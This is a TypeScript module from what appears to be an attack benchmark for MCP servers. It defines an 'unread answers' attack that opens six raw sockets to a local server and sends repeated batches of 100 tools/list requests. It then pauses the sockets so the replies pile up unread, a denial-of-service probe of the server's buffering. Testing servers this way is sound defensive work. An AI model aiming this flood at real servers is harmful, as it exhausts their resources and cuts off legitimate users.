/** Batches of large listings that the client requests and never reads. */
import { setTimeout as delay } from 'node:timers/promises'
import { ask } from '#bench/attack/ask'
import type { Attack } from '#bench/attack/attack'
import { asLimitedClient } from '#bench/attack/client/limitedClient'
import { letGo, openSockets, postText } from '#bench/attack/rawSockets'

const connections = 6
const holdMs = 500
const version = '2025-03-26'
const batch = JSON.stringify(
  Array.from({ length: 100 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'tools/list', params: {} })),
)
const hello = {
  jsonrpc: '2.0',
  id: 'hello',
  method: 'initialize',
  params: { protocolVersion: version, capabilities: {}, clientInfo: { name: 'reads nothing', version: '1' } },
}

export const unreadAnswers: Attack = {
  name: 'unread answers',
  as: 'client',
  async play(target) {
    await asLimitedClient(target, {}, async ({ endpoint: { port, path, token } }) => {
      const response = await ask(`http://127.0.0.1:${port}${path}`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${token}`,
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
        },
        body: JSON.stringify(hello),
      })
      await response.text()
      const session = `Mcp-Session-Id: ${response.headers.get('mcp-session-id') ?? ''}\r\n`
      const opened = await openSockets(port, connections)
      for (const socket of opened) {
        socket.pause()
        socket.write(postText(port, path, token, batch, `${session}MCP-Protocol-Version: ${version}\r\n`).repeat(3))
      }
      await delay(holdMs)
      letGo(opened)
    })
    return []
  },
}
